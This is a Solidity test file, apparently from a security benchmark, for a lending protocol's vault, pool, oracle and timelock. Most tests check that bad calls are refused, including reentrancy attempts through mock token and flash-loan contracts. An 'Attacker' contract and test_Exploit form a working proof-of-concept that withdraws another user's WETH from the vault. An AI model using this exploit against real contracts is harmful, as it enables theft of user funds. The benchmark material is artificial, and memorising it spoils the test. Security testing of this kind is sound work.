// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";
import {Governed} from "../../src/Governed.sol";
import {InterestModel} from "../../src/InterestModel.sol";
import {ILendingPool} from "../../src/interfaces/ILendingPool.sol";
import {IPriceOracle} from "../../src/interfaces/IPriceOracle.sol";
import {IRewards, ITreasury} from "../../src/interfaces/IRewards.sol";

contract Attacker {
    function run(CollateralVault vault, Weth weth, address from) external {
        vault.withdraw(address(weth), 50e18, from, address(this));
    }
}

/// A token that calls the vault when it is moved, stands for its pool as well, and keeps the answer.
contract Bell {
    CollateralVault private vault;
    bytes private call;
    bytes public answer;

    function use(CollateralVault vault_) external {
        vault = vault_;
        vault.deposit(address(this), 10, address(this));
    }

    function run(bytes calldata call_) external returns (bytes4) {
        call = call_;
        vault.withdraw(address(this), 1, address(this), address(this));
        return bytes4(answer);
    }

    function runDeposit(bytes calldata call_) external returns (bytes4) {
        call = call_;
        vault.deposit(address(this), 1, address(this));
        return bytes4(answer);
    }

    function transfer(address, uint256) public returns (bool) {
        if (call.length > 0) (, answer) = address(vault).call(call);
        return true;
    }

    function transferFrom(address, address to, uint256 amount) external returns (bool) {
        return transfer(to, amount);
    }

    function requireHealthy(address) external pure {}
}

/// Takes flash loans, makes a call within, and keeps the answer.
contract Echo is IFlashBorrower {
    Usd private usd;
    bytes private call;
    bytes public answer;

    constructor(Usd usd_) {
        usd = usd_;
    }

    function run(LendingPool pool, bytes calldata call_) external returns (bytes4) {
        call = call_;
        pool.flashLoan(this, 1_000e6, "");
        return bytes4(answer);
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        if (data.length == 0) (, answer) = msg.sender.call(call);
        usd.transfer(msg.sender, amount + (data.length == 1 ? 0 : fee));
        return data.length == 2 ? bytes32(0) : keccak256("saltmarsh.flash");
    }
}

contract Precise is IAggregator {
    uint8 public constant decimals = 19;

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, 1e19, block.timestamp, block.timestamp, 1);
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function test_RefusesCollateral() public {
        address at = address(vault);
        _refused(CEE, at, abi.encodeCall(vault.deposit, (address(usd), 1, CEE)), ICollateralVault.NotAccepted.selector);
        _refused(CEE, at, abi.encodeCall(vault.deposit, (address(weth), 9_800e18, CEE)), ICollateralVault.VaultFull.selector);
        _refused(CEE, at, abi.encodeCall(vault.move, (address(weth), 1e18, BO, CEE)), ICollateralVault.NotAllowed.selector);
        _refused(CEE, at, abi.encodeCall(vault.move, (address(weth), 51e18, CEE, DEE)), ICollateralVault.NotEnoughCollateral.selector);
        _refused(CEE, at, abi.encodeCall(vault.seize, (BO, address(weth), 1e18, CEE)), ICollateralVault.OnlyPool.selector);
    }

    function test_RefusesCallsWithinCalls() public {
        bytes4 locked = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        Bell bell = new Bell();
        CollateralVault fresh = new CollateralVault(oracle);
        fresh.initialize(LendingPool(address(bell)));
        fresh.setTerms(address(bell), ICollateralVault.Terms(0.5e18, 0.6e18, 0.05e18, 100));
        bell.use(fresh);
        address self = address(bell);
        require(bell.run(abi.encodeCall(vault.deposit, (self, 1, self))) == locked, "deposit");
        require(bell.run(abi.encodeCall(vault.move, (self, 1, self, self))) == locked, "move");
        require(bell.run(abi.encodeCall(vault.seize, (self, self, 1, self))) == locked, "seize");
        require(bell.runDeposit(abi.encodeCall(vault.withdraw, (self, 1, self, self))) == locked, "withdraw");
    }

    function test_RefusesTerms() public {
        _governed(address(vault), abi.encodeCall(vault.initialize, (pool)));
        _refused(address(timelock), address(vault), abi.encodeCall(vault.initialize, (pool)), Governed.AlreadySet.selector);
        CollateralVault fresh = new CollateralVault(oracle);
        _refused(address(this), address(fresh), abi.encodeCall(vault.initialize, (LendingPool(address(0)))), Governed.AlreadySet.selector);
        _governed(address(vault), abi.encodeCall(vault.setTerms, (address(weth), ICollateralVault.Terms(0.5e18, 0.6e18, 0.05e18, 1))));
        _terms(0, 0.6e18, 0.05e18);
        _terms(0.6e18, 0.6e18, 0.05e18);
        _terms(0.5e18, 0.6e18, 0.21e18);
        _terms(0.5e18, 0.96e18, 0.05e18);
        for (uint160 i = 3; i <= 8; i++) {
            vm.prank(address(timelock));
            vault.setTerms(address(i), ICollateralVault.Terms(0.5e18, 0.6e18, 0.05e18, 1));
        }
        _terms(0.5e18, 0.6e18, 0.05e18);
    }

    function _terms(uint64 borrowFactor, uint64 liquidationFactor, uint64 bonus) private {
        ICollateralVault.Terms memory terms = ICollateralVault.Terms(borrowFactor, liquidationFactor, bonus, 1);
        bytes memory call = abi.encodeCall(vault.setTerms, (address(9), terms));
        _refused(address(timelock), address(vault), call, ICollateralVault.BadTerms.selector);
    }

    function test_RefusesLoans() public {
        _refused(CEE, address(pool), abi.encodeCall(pool.borrow, (0, CEE, CEE)), ILendingPool.Nothing.selector);
        _refused(DEE, address(pool), abi.encodeCall(pool.borrow, (1e6, CEE, DEE)), ILendingPool.NotOperator.selector);
        _fresh(1_000e8);
        _refused(CEE, address(pool), abi.encodeCall(pool.borrow, (45_000e6, CEE, CEE)), ILendingPool.Unhealthy.selector);
        vm.prank(CEE);
        pool.borrow(37_000e6, CEE, CEE);
        vm.warp(block.timestamp + 2 days);
        _fresh(1_000e8);
        bytes memory call = abi.encodeCall(vault.withdraw, (address(weth), 0.66e18, CEE, CEE));
        _refused(CEE, address(vault), call, ILendingPool.Unhealthy.selector);
        call = abi.encodeCall(vault.move, (address(weth), 0.66e18, CEE, DEE));
        _refused(CEE, address(vault), call, ILendingPool.Unhealthy.selector);
        vm.prank(address(timelock));
        pool.setLimits(1_000_000e6, 0.1e18, 0.001e18);
        _refused(CEE, address(pool), abi.encodeCall(pool.borrow, (400_000e6, CEE, CEE)), ILendingPool.NotEnoughCash.selector);
    }

    function test_RefusesLimits() public {
        _governed(address(pool), abi.encodeCall(pool.setLimits, (1, 0, 0)));
        _refused(address(timelock), address(pool), abi.encodeCall(pool.setLimits, (1, 0.31e18, 0)), ILendingPool.BadLimit.selector);
        _refused(address(timelock), address(pool), abi.encodeCall(pool.setLimits, (1, 0, 0.011e18)), ILendingPool.BadLimit.selector);
        _governed(address(pool), abi.encodeCall(pool.initialize, (shares)));
        _refused(address(timelock), address(pool), abi.encodeCall(pool.initialize, (shares)), Governed.AlreadySet.selector);
        LendingPool fresh = new LendingPool(LendingPool.Parts(address(usd), vault, oracle, model, treasury));
        _refused(address(this), address(fresh), abi.encodeCall(pool.initialize, (PoolShares(address(0)))), Governed.AlreadySet.selector);
        _governed(address(pool), abi.encodeCall(Governed.handOver, (CEE)));
        _refused(address(timelock), address(pool), abi.encodeCall(Governed.handOver, (address(0))), Governed.AlreadySet.selector);
    }

    function test_RefusesCurves() public {
        uint256[4][3] memory curves =
            [[uint256(0.01e18), 0.06e18, 1.2e18, 0], [uint256(0.01e18), 0.06e18, 1.2e18, 1e18], [uint256(0.01e18), 0.06e18, 5e18, 0.8e18]];
        for (uint256 i = 0; i < 3; i++) {
            try new InterestModel(curves[i][0], curves[i][1], curves[i][2], curves[i][3]) {
                revert("this is no curve");
            } catch {}
        }
    }

    function test_RefusesSupplies() public {
        bytes4 nothing = ILendingPool.Nothing.selector;
        _refused(ANA, address(pool), abi.encodeCall(pool.supply, (0, ANA)), nothing);
        _refused(ANA, address(pool), abi.encodeCall(pool.supply, (1e6, address(0))), nothing);
        _refused(ANA, address(pool), abi.encodeCall(pool.redeem, (0, ANA)), nothing);
        uint256 all = shares.balanceOf(ANA);
        _refused(ANA, address(pool), abi.encodeCall(pool.redeem, (all, ANA)), ILendingPool.NotEnoughCash.selector);
        for (uint256 i = 0; i < 4; i++) {
            vm.warp(block.timestamp + 1_000 * 365 days);
            pool.accrue();
        }
        _refused(ANA, address(pool), abi.encodeCall(pool.supply, (1, ANA)), nothing);
    }

    function test_RefusesFlashLoans() public {
        Echo echo = new Echo(usd);
        usd.mint(address(echo), 100e6);
        bytes4 notReturned = ILendingPool.FlashLoanNotReturned.selector;
        _refused(ANA, address(pool), abi.encodeCall(pool.flashLoan, (echo, 0, "")), ILendingPool.Nothing.selector);
        _refused(ANA, address(pool), abi.encodeCall(pool.flashLoan, (echo, 400_000e6, "")), ILendingPool.NotEnoughCash.selector);
        _refused(ANA, address(pool), abi.encodeCall(pool.flashLoan, (echo, 1_000e6, "1")), notReturned);
        _refused(ANA, address(pool), abi.encodeCall(pool.flashLoan, (echo, 1_000e6, "12")), notReturned);
        bytes4 locked = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        require(echo.run(pool, abi.encodeCall(pool.redeem, (0, ANA))) == locked, "redeem");
        require(echo.run(pool, abi.encodeCall(pool.borrow, (0, ANA, ANA))) == locked, "borrow");
        require(echo.run(pool, abi.encodeCall(pool.repay, (0, ANA))) == locked, "repay");
        require(echo.run(pool, abi.encodeCall(pool.liquidate, (ANA, address(weth), 0, ""))) == locked, "liquidate");
        require(echo.run(pool, abi.encodeCall(pool.flashLoan, (echo, 0, ""))) == locked, "flashLoan");
    }

    function test_RefusesLiquidations() public {
        _refused(CEE, address(pool), abi.encodeCall(pool.liquidate, (BO, address(weth), 1_000e6, "")), ILendingPool.Healthy.selector);
        _fresh(1_500e8);
        usd.mint(CEE, 300_000e6);
        vm.prank(CEE);
        usd.approve(address(pool), type(uint256).max);
        _refused(CEE, address(pool), abi.encodeCall(pool.liquidate, (BO, address(wbtc), 1_000e6, "")), ILendingPool.Nothing.selector);
        uint256 debt = pool.debtOf(BO);
        vm.prank(CEE);
        pool.liquidate(BO, address(weth), 200_000e6, "");
        require(pool.debtOf(BO) + 1 >= debt / 2 && pool.debtOf(BO) < debt / 2 + 2, "half of it at once");
    }

    function test_RefusesRepayments() public {
        _refused(ANA, address(pool), abi.encodeCall(pool.repay, (1e6, ANA)), ILendingPool.Nothing.selector);
        _refused(ANA, address(pool), abi.encodeCall(pool.repay, (0, BO)), ILendingPool.Nothing.selector);
    }

    function test_RefusesFeeds() public {
        bytes4 bad = IPriceOracle.BadFeed.selector;
        address timer = address(timelock);
        _fresh(2_000e8);
        _governed(address(oracle), abi.encodeCall(oracle.setFeed, (address(usd), usdFeed, 1 days)));
        _refused(timer, address(oracle), abi.encodeCall(oracle.setFeed, (address(usd), IAggregator(address(0)), 1 days)), bad);
        _refused(timer, address(oracle), abi.encodeCall(oracle.setFeed, (address(usd), usdFeed, 0)), bad);
        _refused(timer, address(oracle), abi.encodeCall(oracle.setFeed, (address(usd), usdFeed, 3 days)), bad);
        Precise precise = new Precise();
        _refused(timer, address(oracle), abi.encodeCall(oracle.setFeed, (address(usd), precise, 1 days)), bad);
    }

    function test_RefusesPrices() public {
        _refused(ANA, address(oracle), abi.encodeCall(oracle.priceOf, (ANA)), IPriceOracle.NoFeed.selector);
        usdFeed.set(0, block.timestamp);
        _refused(ANA, address(oracle), abi.encodeCall(oracle.priceOf, (address(usd))), IPriceOracle.BadAnswer.selector);
        usdFeed.set(1e8, block.timestamp - 4 days);
        _refused(ANA, address(oracle), abi.encodeCall(oracle.priceOf, (address(usd))), IPriceOracle.OutdatedAnswer.selector);
    }

    function test_RefusesPeriods() public {
        bytes4 bad = IRewards.BadPeriod.selector;
        _governed(address(rewards), abi.encodeCall(rewards.startPeriod, (1e18, 1 days)));
        _refused(address(timelock), address(rewards), abi.encodeCall(rewards.startPeriod, (1e18, 0)), bad);
        _refused(address(timelock), address(rewards), abi.encodeCall(rewards.startPeriod, (50_000e18, 1 days)), bad);
        vm.prank(address(timelock));
        rewards.startPeriod(1e18, 1 days);
        _refused(address(timelock), address(rewards), abi.encodeCall(rewards.startPeriod, (1e18, 1 days)), bad);
        _refused(ANA, address(rewards), abi.encodeCall(rewards.settle, (ANA)), IRewards.OnlyShares.selector);
        _governed(address(rewards), abi.encodeCall(rewards.initialize, (shares)));
        _refused(address(timelock), address(rewards), abi.encodeCall(rewards.initialize, (shares)), Governed.AlreadySet.selector);
    }

    function test_RefusesSharesOfOthers() public {
        _refused(ANA, address(shares), abi.encodeCall(shares.mint, (ANA, 1)), PoolShares.OnlyPool.selector);
        _refused(ANA, address(shares), abi.encodeCall(shares.burn, (ANA, 1)), PoolShares.OnlyPool.selector);
    }

    function test_RefusesPayments() public {
        _governed(address(treasury), abi.encodeCall(treasury.spend, (usd, ANA, 1e6)));
        _governed(address(treasury), abi.encodeCall(treasury.initialize, (ANA)));
        _refused(address(timelock), address(treasury), abi.encodeCall(treasury.initialize, (ANA)), Governed.AlreadySet.selector);
        _refused(ANA, address(treasury), abi.encodeCall(treasury.cover, (1e6)), ITreasury.OnlyLender.selector);
        Treasury fresh = new Treasury(usd);
        _refused(address(this), address(fresh), abi.encodeCall(treasury.initialize, (address(0))), Governed.AlreadySet.selector);
    }

    function test_RefusesOperations() public {
        bytes memory limits = abi.encodeCall(LendingPool.setLimits, (400_000e6, 0.1e18, 0.001e18));
        bytes memory tooHigh = abi.encodeCall(LendingPool.setLimits, (400_000e6, 1e18, 0.001e18));
        bytes4 notNow = ParameterTimelock.NotNow.selector;
        address at = address(timelock);
        bytes memory execution = abi.encodeCall(timelock.execute, (address(pool), limits, "one"));
        _refused(ANA, at, abi.encodeCall(timelock.queue, (address(pool), limits, "one")), ParameterTimelock.OnlyCouncil.selector);
        _refused(ANA, at, execution, ParameterTimelock.NotQueued.selector);
        vm.startPrank(COUNCIL);
        bytes32 id = timelock.queue(address(pool), limits, "one");
        timelock.queue(address(pool), tooHigh, "two");
        vm.stopPrank();
        _refused(COUNCIL, at, abi.encodeCall(timelock.queue, (address(pool), limits, "one")), ParameterTimelock.AlreadyQueued.selector);
        _refused(ANA, at, abi.encodeCall(timelock.cancel, (id)), ParameterTimelock.OnlyCouncil.selector);
        _refused(COUNCIL, at, abi.encodeCall(timelock.cancel, (bytes32(0))), ParameterTimelock.NotQueued.selector);
        _refused(ANA, at, execution, notNow);
        vm.warp(block.timestamp + 17 days);
        _refused(ANA, at, execution, notNow);
        vm.warp(block.timestamp - 10 days);
        _refused(ANA, at, abi.encodeCall(timelock.execute, (address(pool), tooHigh, "two")), ParameterTimelock.Failed.selector);
        try new ParameterTimelock(COUNCIL, 1 hours) {
            revert("too short");
        } catch {}
    }

    /// Requires that a call is refused for this reason, and for no other one.
    function _refused(address who, address where, bytes memory call, bytes4 reason) private {
        require(bytes4(_answer(who, where, call)) == reason, "not refused, or for another reason");
    }

    function _answer(address who, address where, bytes memory call) private returns (bytes memory why) {
        bool done;
        vm.prank(who);
        (done, why) = where.call(call);
        require(!done, "not refused");
    }

    /// Requires that a call is refused to everybody but the governor.
    function _governed(address where, bytes memory call) private {
        _refused(CEE, where, call, Governed.OnlyGovernor.selector);
    }

    function exploit() public {
        other.run(vault, weth, CEE);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) >= 40e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
